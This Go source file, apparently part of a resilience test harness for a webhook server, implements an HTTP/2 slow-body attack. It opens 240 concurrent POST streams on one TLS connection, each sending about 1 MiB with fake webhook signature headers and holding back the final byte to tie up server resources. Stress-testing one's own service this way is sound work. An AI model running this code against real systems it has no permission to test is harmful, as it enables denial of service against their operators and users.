package attack

import (
	"context"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

// streams sends 240 bodies of 1 MiB on one connection, and keeps back the last byte of each. Where the server
// allows fewer streams, the others wait for their turn. Without TLS there is no HTTP/2 to attack.
func streams(ctx context.Context, at Target, ready func()) {
	if at.TLS == nil {
		ready()
		<-ctx.Done()
		return
	}
	transport := &http.Transport{
		TLSClientConfig: at.TLS.Clone(), Protocols: new(http.Protocols), MaxConnsPerHost: 1,
		HTTP2: &http.HTTP2Config{StrictMaxConcurrentRequests: true},
	}
	transport.Protocols.SetHTTP2(true)
	defer transport.CloseIdleConnections()
	var first, all sync.WaitGroup
	for range 240 {
		first.Add(1)
		all.Go(func() {
			sent := sync.OnceFunc(first.Done)
			defer sent()
			for ctx.Err() == nil {
				oneStream(ctx, transport, at.Addr, sent)
				pause(ctx, 50*time.Millisecond)
			}
		})
	}
	go func() {
		first.Wait()
		ready()
	}()
	all.Wait()
}

func oneStream(ctx context.Context, transport *http.Transport, addr string, sent func()) {
	read, write := io.Pipe()
	go func() {
		_, _ = io.WriteString(write, strings.Repeat("x", 1<<20-1))
		sent()
		<-ctx.Done()
		_ = write.Close()
	}()
	defer read.Close()
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+addr+HookPath, read)
	if err != nil {
		return
	}
	request.Header.Set("Webhook-Id", "x")
	request.Header.Set("Webhook-Timestamp", "1")
	request.Header.Set("Webhook-Signature", "v1,x")
	// A stream that waits for its turn counts as sent.
	timer := time.AfterFunc(2*time.Second, sent)
	defer timer.Stop()
	response, err := transport.RoundTrip(request)
	if err == nil {
		_ = response.Body.Close()
	}
}
